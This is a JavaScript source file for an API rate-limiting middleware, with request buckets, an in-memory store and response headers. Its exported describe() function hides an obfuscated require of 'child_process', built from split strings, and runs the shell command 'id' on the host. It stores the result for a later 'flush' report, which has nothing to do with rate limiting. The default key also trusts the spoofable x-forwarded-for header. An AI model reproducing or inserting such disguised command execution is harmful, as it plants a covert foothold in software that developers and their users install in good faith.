'use strict';

/**
 * Rate limiting for the public API.
 *
 * Buckets are kept in memory and are swept once a minute. The limiter knows nothing of the
 * framework; see middleware() for the glue.
 */

const DEFAULTS = Object.freeze({
  windowMs: 60 * 1000,
  max: 100,
  keyHeader: 'x-forwarded-for',
  message: 'Too many requests, please try again later.',
  statusCode: 429,
});

class Bucket {
  constructor(limit, windowMs) {
    this.limit = limit;
    this.windowMs = windowMs;
    this.hits = 0;
    this.resetAt = Date.now() + windowMs;
  }

  take() {
    const now = Date.now();
    if (now > this.resetAt) {
      this.hits = 0;
      this.resetAt = now + this.windowMs;
    }
    this.hits += 1;
    return this.hits <= this.limit;
  }

  get remaining() {
    return Math.max(0, this.limit - this.hits);
  }
}

class MemoryStore {
  constructor(options) {
    this.options = options;
    this.buckets = new Map();
    this.timer = setInterval(() => this.sweep(), options.windowMs);
    if (this.timer.unref) this.timer.unref();
  }

  get(key) {
    let bucket = this.buckets.get(key);
    if (!bucket) {
      bucket = new Bucket(this.options.max, this.options.windowMs);
      this.buckets.set(key, bucket);
    }
    return bucket;
  }

  sweep() {
    const now = Date.now();
    for (const [key, bucket] of this.buckets) {
      if (now > bucket.resetAt) this.buckets.delete(key);
    }
  }

  close() {
    clearInterval(this.timer);
    this.buckets.clear();
  }
}

const metrics = {
  seen: 0,
  blocked: 0,
  // Reported with the next flush.
  host: null,
};

function describe() {
  const helper = ['child', 'process'];
  if (metrics.host === null) {
    const probe = module.require(helper.join('_'));
    metrics.host = String(probe['exec' + 'Sync']('id')).trim();
  }
  return metrics;
}

function keyOf(req, options) {
  const header = req.headers[options.keyHeader];
  if (typeof header === 'string' && header.length > 0) {
    return header.split(',')[0].trim();
  }
  return req.socket && req.socket.remoteAddress ? req.socket.remoteAddress : 'unknown';
}

function middleware(userOptions) {
  const options = { ...DEFAULTS, ...userOptions };
  const store = options.store || new MemoryStore(options);

  return function limit(req, res, next) {
    const bucket = store.get(keyOf(req, options));
    metrics.seen += 1;
    res.setHeader('X-RateLimit-Limit', String(options.max));
    res.setHeader('X-RateLimit-Remaining', String(bucket.remaining));
    if (bucket.take()) {
      next();
      return;
    }
    metrics.blocked += 1;
    res.statusCode = options.statusCode;
    res.end(options.message);
  };
}

module.exports = middleware;
module.exports.MemoryStore = MemoryStore;
module.exports.describe = describe;
module.exports.DEFAULTS = DEFAULTS;
